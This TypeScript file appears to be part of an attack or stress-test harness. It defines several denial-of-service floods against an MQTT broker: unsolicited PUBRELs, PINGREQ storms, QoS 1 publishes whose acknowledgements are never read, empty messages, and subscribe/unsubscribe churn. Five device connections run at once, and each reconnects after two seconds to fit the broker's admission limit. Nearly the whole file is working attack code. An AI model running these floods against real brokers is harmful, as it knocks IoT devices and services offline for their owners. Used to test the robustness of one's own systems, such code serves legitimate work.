import { generate } from 'mqtt-packet';
import { cardTopic, closed, connectPacket, keepGoing, openSocket } from './raw-card.js';
import type { Attack, Target } from './attack.js';

const chunkBytes = 64 * 1024;
/** Cards of the attacker, each of which reconnects when it is cut off. */
const cards = 5;
/** Pause before a card that was cut off reconnects: the broker lets one number in every two seconds. */
const returnMs = 2000;

/** Chunks of one packet over and over. */
const chunkOf = (packet: Buffer): Buffer =>
  Buffer.concat(Array.from({ length: Math.ceil(chunkBytes / packet.length) }, () => packet));

/** Connects a valid card and sends a packet as fast as the socket takes it. */
const flood = async (target: Target, deviceNo: string, packet: Buffer, reads: boolean): Promise<void> => {
  const socket = openSocket(target);
  const over = closed(socket);
  const chunk = chunkOf(packet);
  const send = (): void => {
    while (!socket.destroyed && socket.write(chunk));
  };
  socket.write(connectPacket(target, deviceNo));
  socket.once('data', () => {
    if (reads) socket.resume();
    else socket.pause();
    socket.on('drain', send);
    send();
  });
  await over;
  await new Promise((resolve) => setTimeout(resolve, returnMs));
};

const flooding = (name: string, reads: boolean, packetOf: (deviceNo: string) => Buffer): Attack => ({
  name,
  start: (target) => {
    let count = 0;
    keepGoing(cards, () => {
      const deviceNo = `X${count++ % cards}`;
      return flood(target, deviceNo, packetOf(deviceNo), reads);
    });
  },
});

const publish = (deviceNo: string, payload: string, qos: 0 | 1): Buffer => {
  const topic = cardTopic(deviceNo, 'heartbeat');
  return generate({ cmd: 'publish', topic, payload, qos, messageId: 7, dup: false, retain: false });
};

/** PUBRELs of ids that were never sent. */
export const pubrels = flooding('pubrel', true, () => Buffer.from([0x62, 2, 0xff, 0xff]));
export const pingreqs = flooding('pingreq', true, () => Buffer.from([0xc0, 0]));
/** Heartbeats of QoS 1 whose PUBACKs are not read. */
export const unread = flooding('unread', false, (deviceNo) => publish(deviceNo, JSON.stringify({ deviceNo }), 1));
export const emptyMessages = flooding('empty', true, (deviceNo) => publish(deviceNo, '', 0));
export const subscribes = flooding('subscribe', true, (deviceNo) =>
  Buffer.concat([
    generate({ cmd: 'subscribe', messageId: 7, subscriptions: [{ topic: cardTopic(deviceNo, 'command'), qos: 1 }] }),
    generate({ cmd: 'unsubscribe', messageId: 8, unsubscriptions: [cardTopic(deviceNo, 'command')] }),
  ]),
);
